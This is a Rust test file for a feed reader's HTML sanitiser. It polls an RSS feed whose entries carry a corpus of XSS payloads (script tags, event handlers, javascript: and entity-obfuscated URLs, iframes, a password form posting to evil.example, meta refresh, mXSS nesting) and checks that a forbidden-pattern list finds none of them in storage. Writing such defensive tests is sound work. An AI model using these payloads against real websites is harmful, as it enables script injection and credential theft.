//! Stored HTML is safe to render: a feed whose entries carry an XSS corpus
//! in `<description>` and `<content:encoded>` is polled with
//! `full_text = false`, and the stored `content_html` and `summary` hold no
//! script, event handler, script URL, active embed, form, meta refresh or
//! base override, while ordinary links and images survive with absolute URLs.

mod common;
mod harness;

use common::{Reply, TestServer};
use harness::{Setup, describe, feed};

/// Attack payloads, one per entry (as a wire's CMS might pass through).
const CORPUS: &[&str] = &[
    r#"<p>Talks resumed.</p><script>alert(document.cookie)</script>"#,
    r#"<p>Photo:</p><img src="/x.jpg" onerror="alert(1)">"#,
    r#"<body onload="alert(1)"><p>Body handler</p></body>"#,
    r#"<p><a href="javascript:alert(1)">Read more</a></p>"#,
    r#"<p><a href="JaVaScRiPt:alert(1)">Mixed case</a></p>"#,
    r#"<p><a href="vbscript:msgbox(1)">Old IE</a></p>"#,
    r#"<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data URL</a></p>"#,
    r#"<p style="width: expression(alert(1))">IE expression</p>"#,
    r#"<p style="background: url(javascript:alert(1))">CSS URL</p>"#,
    r#"<svg onload="alert(1)"><circle r="5"/></svg><p>SVG</p>"#,
    r#"<iframe src="https://evil.example/"></iframe><p>Frame</p>"#,
    r#"<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><p>Plugins</p>"#,
    r#"<form action="https://evil.example/steal"><input name="password"></form><p>Form</p>"#,
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Refresh</p>"#,
    r#"<base href="https://evil.example/"><p><a href="/relative">Base override</a></p>"#,
    r#"<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Decimal entities</a></p>"#,
    r#"<p><a href="jav&#x61;script&colon;alert(1)">Hex entities</a></p>"#,
    r#"<p><a href="java&#x09;script:alert(1)">Tab inside</a></p>"#,
    r#"<style>body { background: url("javascript:alert(1)") }</style><p>Style block</p>"#,
    r#"<p><img src="x" srcset="javascript:alert(1) 1x"> srcset</p>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
    r#"<p><a href="/world/2026/11/ceasefire-talks">Ceasefire talks</a> and <img src="/img/geneva.jpg" alt="Geneva"></p>"#,
];

/// Markup that must never reach the store (checked case-insensitively,
/// before and after decoding character references).
const FORBIDDEN: &[&str] = &[
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "vbscript:",
    "data:text/html",
    "expression(",
    "<svg",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<meta",
    "http-equiv",
    "<base",
    "<style",
    "<math",
    "alert(",
];

/// Decodes numeric character references and the few named ones used to
/// hide a scheme, and drops ASCII tab and newline (which URL parsers ignore).
fn decoded(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(';').filter(|&e| e < 12);
        let decoded = end.and_then(|e| {
            let name = &rest[1..e];
            let c = if let Some(hex) = name.strip_prefix("#x").or(name.strip_prefix("#X")) {
                u32::from_str_radix(hex, 16).ok().and_then(char::from_u32)
            } else if let Some(dec) = name.strip_prefix('#') {
                dec.parse().ok().and_then(char::from_u32)
            } else {
                match name {
                    "colon" => Some(':'),
                    "Tab" => Some('\t'),
                    "lpar" => Some('('),
                    "amp" => Some('&'),
                    "lt" => Some('<'),
                    "gt" => Some('>'),
                    "quot" => Some('"'),
                    _ => None,
                }
            };
            c.map(|c| (c, e))
        });
        match decoded {
            Some((c, e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out.replace(['\t', '\n', '\r'], "")
}

fn xss_feed(base: &str) -> String {
    let mut xml = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\" \
         xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel>\
         <title>Wire</title><link>https://wire.example/</link><description>x</description>\n",
    );
    for (i, payload) in CORPUS.iter().enumerate() {
        xml.push_str(&format!(
            "<item><title>Entry {i}</title><link>{base}/news/{i}</link><guid>xss-{i}</guid>\
             <description><![CDATA[{payload}]]></description>\
             <content:encoded><![CDATA[<div>{payload}</div>]]></content:encoded></item>\n"
        ));
    }
    xml.push_str("</channel></rss>\n");
    xml
}

#[test]
fn stored_html_carries_no_script_vectors() {
    let srv = TestServer::start();
    let base = srv.url("");
    srv.route(
        "/xss.rss",
        Reply::ok(xss_feed(&base)).header("Content-Type", "application/rss+xml"),
    );
    let setup = Setup::new(&[feed("wire", srv.url("/xss.rss"))]);
    let out = setup.run(&["poll"]);
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        setup.query_i64("SELECT count(*) FROM items"),
        CORPUS.len() as i64
    );

    let conn = setup.conn();
    let mut stmt = conn
        .prepare("SELECT url, coalesce(content_html, ''), coalesce(summary, '') FROM items")
        .expect("prepare");
    let rows: Vec<(String, String, String)> = stmt
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .expect("query")
        .collect::<Result<_, _>>()
        .expect("rows");
    let mut found = Vec::new();
    for (url, html, summary) in &rows {
        for (column, value) in [("content_html", html), ("summary", summary)] {
            let lower = value.to_lowercase();
            let plain = decoded(&lower);
            for bad in FORBIDDEN {
                if lower.contains(bad) || plain.contains(bad) {
                    found.push(format!("{url} {column} contains {bad:?}: {value}"));
                }
            }
        }
    }
    assert!(
        found.is_empty(),
        "unsafe markup stored:\n{}",
        found.join("\n")
    );

    // Ordinary content survives, made absolute against the entry's link.
    let (_, html, summary) = rows
        .iter()
        .find(|(url, _, _)| url.ends_with(&format!("/news/{}", CORPUS.len() - 1)))
        .expect("the harmless entry");
    assert!(
        html.contains(&format!("href=\"{base}/world/2026/11/ceasefire-talks\"")),
        "{html}"
    );
    assert!(
        html.contains(&format!("src=\"{base}/img/geneva.jpg\"")),
        "{html}"
    );
    assert!(summary.contains("Ceasefire talks"), "{summary}");
    // Text around removed markup is kept.
    let first = &rows
        .iter()
        .find(|(url, _, _)| url.ends_with("/news/0"))
        .expect("entry 0")
        .1;
    assert!(first.contains("Talks resumed."), "{first}");
}

#[test]
fn the_corpus_check_catches_every_payload() {
    // The check itself must see each payload as unsafe (except the harmless
    // last one): otherwise the test above could pass on a no-op sanitiser.
    let (harmless, attacks) = CORPUS.split_last().expect("corpus");
    for payload in attacks {
        let lower = payload.to_lowercase();
        let plain = decoded(&lower);
        assert!(
            FORBIDDEN
                .iter()
                .any(|bad| lower.contains(bad) || plain.contains(bad)),
            "payload not caught by the check: {payload}"
        );
    }
    let lower = harmless.to_lowercase();
    assert!(!FORBIDDEN.iter().any(|bad| decoded(&lower).contains(bad)));
}
